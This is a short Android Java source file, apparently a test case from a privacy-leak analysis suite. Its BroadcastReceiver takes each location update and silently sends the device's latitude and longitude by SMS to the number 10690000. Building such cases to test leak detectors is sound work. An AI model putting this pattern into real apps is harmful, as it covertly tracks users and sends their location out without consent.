package cn.privlens.suite.position_by_pending_intent;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.location.Location;
import android.location.LocationManager;
import android.telephony.SmsManager;

public class Fix extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Location at = intent.getParcelableExtra(LocationManager.KEY_LOCATION_CHANGED);
        if (at != null) {
            SmsManager.getDefault().sendTextMessage("10690000", null, at.getLatitude() + "," + at.getLongitude(), null, null);
        }
    }
}
